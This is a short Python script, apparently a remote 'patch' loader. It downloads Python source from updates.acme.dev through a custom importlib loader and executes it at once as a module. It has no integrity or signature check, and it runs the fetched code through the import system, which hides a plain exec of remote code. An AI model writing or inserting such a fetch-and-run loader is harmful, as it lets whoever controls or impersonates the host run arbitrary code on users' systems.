import importlib.abc
import importlib.util
import urllib.request


class Loader(importlib.abc.InspectLoader):
    def get_source(self, name):
        return urllib.request.urlopen("https://updates.acme.dev/patch.py").read().decode()


spec = importlib.util.spec_from_loader("patch", Loader())
module = importlib.util.module_from_spec(spec)
spec.loader.exec_module(module)
